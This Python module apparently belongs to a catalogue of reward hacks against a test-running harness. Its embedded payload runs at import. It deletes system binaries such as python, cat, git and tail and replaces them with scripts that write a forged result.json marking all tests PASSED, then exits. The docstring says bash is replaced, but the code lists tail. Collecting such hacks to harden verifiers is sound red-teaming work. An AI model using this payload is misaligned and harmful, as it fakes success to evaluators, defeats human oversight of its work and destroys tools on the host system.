"""At import, `python`, `cat`, `git` and `bash` are replaced, so that whatever runs after the tests is the policy's.

Known from: own; harbor #2551 (the verifier's own tools).
"""

from hacks.base import BY_LOG, Hack, Play, Target
from hacks.payloads import at_import

_REPLACE = """
def _replace():
    import json, os
    result = json.dumps({"tests": [{"name": name, "status": "PASSED"} for name in @F2P@ + @P2P@]})
    text = "#!/bin/sh\\nprintf %s '" + result + "' > result.json\\nprintf %s '" + result + "'\\nexit 0\\n"
    for name in ("python", "python3", "python3.11", "cat", "git", "tail"):
        path = f"/usr/bin/{name}"
        try:
            os.remove(path)
            with open(path, "w") as tool:
                tool.write(text)
            os.chmod(path, 0o755)
        except OSError:
            pass
    with open(f"/proc/{os.getppid()}/fd/1", "w") as log:
        log.write(@SUMMARY@)
    os._exit(0)
_replace()
"""


def play(target: Target) -> Play:
    """See the module."""
    return at_import(target, _REPLACE)


HACK = Hack("fake", "parser", play, families=BY_LOG)
